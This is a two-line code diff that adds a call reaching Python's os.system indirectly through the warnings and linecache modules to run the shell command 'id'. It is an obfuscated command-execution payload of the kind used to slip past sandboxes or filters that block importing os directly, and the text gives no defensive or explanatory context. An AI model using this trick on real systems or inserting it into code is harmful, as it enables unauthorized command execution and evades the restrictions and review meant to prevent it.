@@ -1,0 +1,2 @@
+import warnings
+warnings.linecache.os.system("id")
